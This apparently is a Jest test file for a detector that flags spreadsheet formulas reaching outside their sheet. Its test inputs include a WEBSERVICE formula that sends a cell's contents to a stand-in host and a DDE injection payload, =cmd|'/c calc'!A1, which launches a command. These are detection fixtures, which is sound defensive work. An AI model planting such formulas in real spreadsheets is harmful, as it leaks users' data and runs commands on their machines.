// A formula that reaches out of its sheet is known before it is pasted.
import { expect, test } from "@jest/globals";
import { reachOf } from "../src/ui/reach.ts";

test.each([
  ['=SUMIF(A:A,"Paid",C:C)', []],
  ['=WEBSERVICE("https://x.example/?"&A1)', ["WEBSERVICE"]],
  ["=_xlfn.webservice (A1)", ["WEBSERVICE"]],
  ['=IF(A1,HYPERLINK("x"),IMPORTXML("y","z"))', ["HYPERLINK", "IMPORTXML"]],
  ['="WEBSERVICE(1)"', []],
  ["='WEBSERVICE('!A1", []],
  ["=HYPERLINK+1", []],
  ["=cmd|'/c calc'!A1", ["DDE"]],
  ['="a|b"', []],
  ['=IMPORTDATA("x', ["IMPORTDATA"]],
])("%s reaches out by %j", (formula, names) => {
  expect(reachOf(formula)).toEqual(names);
});
